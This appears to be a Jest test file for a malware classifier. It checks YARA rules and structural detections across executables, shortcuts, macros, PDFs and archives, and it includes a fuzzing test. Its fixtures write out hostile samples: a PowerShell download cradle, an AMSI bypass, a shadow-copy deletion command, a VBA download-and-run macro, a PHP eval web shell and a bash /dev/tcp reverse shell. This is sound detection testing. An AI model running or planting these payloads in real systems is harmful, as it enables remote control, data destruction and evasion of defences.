import { beforeAll, describe, expect, test } from '@jest/globals';
import { examine } from '../../../classifiers/content/examine.ts';
import { compileRules, type Scanner } from '../../../classifiers/content/yara/engine.ts';
import { loadYaraRules, type LoadedYaraRules } from '../../../classifiers/content/yara/load-rules.ts';
import { mutate } from '../../../scripts/fuzz/mutate.ts';
import { fuzz } from '../../../scripts/fuzz/run.ts';
import { randomOf } from '../../../scripts/random.ts';
import { buildPe } from '../../support/pe-builder.ts';
import { plain32, rich64 } from '../../support/pe-samples.ts';
import { buildElf } from '../../support/samples/elf.ts';
import { buildLnk } from '../../support/samples/lnk.ts';
import { macroProject } from '../../support/samples/ole.ts';
import { buildPdf } from '../../support/samples/pdf.ts';
import { seeds } from '../../support/samples/seeds.ts';
import { buildZip } from '../../support/samples/zip.ts';

let loaded: LoadedYaraRules;
let scanners: readonly Scanner[] = [];
beforeAll(async () => {
  loaded = await loadYaraRules(['classifiers/content/rules']);
  scanners = loaded.sources.map(compileRules);
});

function found(bytes: Buffer, name: string | null = null): Readonly<Record<string, string>> {
  const { findings } = examine(bytes, name, scanners);
  return Object.fromEntries(findings.map(({ code, level }) => [code, level]));
}

const utf16 = (text: string) => Buffer.from(text, 'utf16le').toString('base64');
/** The test file, put together here so that this file is not one. */
const eicar = Buffer.from(
  ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('-'),
);
const program = (text: string, imports: Readonly<Record<string, readonly string[]>> = {}) =>
  buildPe({ is64Bit: true, code: Buffer.from(text.padEnd(64, ' '), 'latin1'), imports });
const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://example.org/a')";

describe('shipped rules', () => {
  test('every one compiles', () => {
    expect(loaded.rejected).toEqual([]);
    expect(loaded.rules).toBeGreaterThan(30);
  });

  test.each<[string, Buffer, string, string]>([
    ['the test file', eicar, 'eicar_test_file', 'critical'],
    [
      'the test file in an archive',
      buildZip([{ name: 'a.com', content: eicar }]),
      'eicar_test_file',
      'critical',
    ],
    [
      'a download cradle, encoded in a program',
      program(`cmd /c start ${utf16(cradle)}`),
      'encoded_download_and_run',
      'high',
    ],
    [
      'imports to write into another process',
      program('', { 'KERNEL32.dll': ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'] }),
      'imports_to_write_into_another_process',
      'medium',
    ],
    [
      'a script that blinds the scanning of scripts',
      Buffer.from(
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
      ),
      'script_disables_script_scanning',
      'high',
    ],
    [
      'a program against backups and boot repair',
      program('vssadmin delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no'),
      'program_destroys_recovery',
      'high',
    ],
    [
      'a letter that demands a ransom',
      Buffer.from(
        'All your important files have been encrypted. To recover your files pay in Bitcoin. Do not try to rename encrypted files.',
      ),
      'ransom_note',
      'medium',
    ],
    [
      'a macro that downloads and runs',
      macroProject(
        'Sub AutoOpen()\r\nSet x = CreateObject("MSXML2.XMLHTTP")\r\nShell "a.exe"\r\nEnd Sub\r\n',
      ),
      'macro_downloads_and_runs',
      'high',
    ],
    [
      'the same macro in a document of the XML formats',
      buildZip([
        { name: '[Content_Types].xml', content: Buffer.from('<Types/>') },
        {
          name: 'word/vbaProject.bin',
          content: macroProject('Sub AutoOpen()\r\nURLDownloadToFile\r\nShell "a.exe"\r\nEnd Sub\r\n'),
        },
      ]),
      'macro_downloads_and_runs',
      'high',
    ],
    [
      'a shortcut with an encoded command',
      buildLnk({ path: 'powershell.exe', commandLine: `-w hidden -enc ${utf16(cradle)}` }),
      'shortcut_runs_encoded_command',
      'high',
    ],
    [
      'a page that runs what a request sends',
      Buffer.from("<?php @eval($_POST['a']); ?>"),
      'web_shell',
      'high',
    ],
    [
      'a script in UTF-16',
      Buffer.from('\ufeffbash -i >& /dev/tcp/192.0.2.1/443 0>&1', 'utf16le'),
      'reverse_shell',
      'medium',
    ],
  ])('%s', (_name, bytes, code, level) => {
    expect(found(bytes)).toMatchObject({ [code]: level });
  });

  test('what writes about attacks is not taken for one', () => {
    const rule =
      'title: x\nlogsource:\n  product: windows\ndetection:\n  a: vssadmin delete shadows\n  b: recoveryenabled no\nfalsepositives: none';
    expect(found(Buffer.from(rule))).toEqual({});
    expect(found(Buffer.concat([eicar, Buffer.alloc(200, 0x20)]))).toEqual({});
  });
});

describe('structure', () => {
  test.each<[string, Buffer, readonly string[]]>([
    ['an ordinary library', rich64, []],
    ['an ordinary Linux program', buildElf(), ['sections-stripped']],
    [
      'a Linux program in writable code',
      buildElf({ isWritable: true }),
      ['entry-in-writable-code', 'sections-stripped'],
    ],
    [
      'an executable behind an executable',
      buildPe({ is64Bit: true, code: Buffer.alloc(64), overlay: plain32 }),
      ['executable-in-overlay'],
    ],
    [
      'an installer',
      buildPe({
        is64Bit: false,
        code: Buffer.alloc(64),
        overlay: Buffer.from('\xef\xbe\xad\xdeNullsoftInst', 'latin1'),
      }),
      ['installer:nullsoft-installer'],
    ],
    [
      'a script at the opening of a PDF',
      buildPdf('/OpenAction 4 0 R', '<< /JS (x) >>'),
      ['script-at-opening'],
    ],
    [
      'a shortcut behind blanks and a document’s icon',
      buildLnk({ path: 'cmd.exe', commandLine: `${' '.repeat(80)}/c ver`, iconLocation: 'x.pdf' }),
      ['command-hidden', 'poses-as-document', 'runs-interpreter'],
    ],
    [
      'an archive with a program that poses as a document',
      buildZip([
        { name: 'invoice.pdf.exe', content: rich64 },
        { name: 'closed.js', content: Buffer.from('x'), isEncrypted: true },
      ]),
      ['deceptive-name', 'encrypted-program'],
    ],
    [
      'an archive that claims to hold very much',
      buildZip([{ name: 'zeros', content: Buffer.alloc(1000), claimedBytes: 4_000_000_000 }]),
      ['archive-bomb'],
    ],
  ])('%s', (_name, bytes, codes) => {
    expect(Object.keys(found(bytes)).sort()).toEqual(codes);
  });

  test('a name speaks for itself, and is told apart', () => {
    const { findings } = examine(plain32, 'photo.jpg', []);
    expect(findings.at(-1)).toMatchObject({ code: 'program-as-document', origin: 'name', level: 'medium' });
  });

  test('an executable carries the facts that an agent would report', () => {
    const { facts } = examine(rich64, null, []);
    expect(facts?.file).toMatchObject({
      size: rich64.length,
      pe: { imphash: '3308a8fb27bd94b03bf08c6d7b8df70f' },
    });
    expect(facts?.firebreak?.pe?.header?.['import_functions']).toBe(3);
  });
});

describe('mutated files', () => {
  test('each one is answered, quickly, with or without rules', () => {
    const files = [...seeds.values()];
    const report = fuzz({ seeds: files, seed: 'test', first: 0, count: 4000 });
    expect(report).toMatchObject({ cases: 4000, crashes: [], hangs: [] });
    expect(Object.keys(report.formats).sort()).toEqual([
      'elf',
      'lnk',
      'ole',
      'pdf',
      'pe',
      'text',
      'unknown',
      'zip',
    ]);
    for (let index = 0; index < 200; index += 1) {
      expect(
        examine(mutate(files, randomOf('rules', String(index))), null, scanners).findings,
      ).toBeInstanceOf(Array);
    }
  });
});
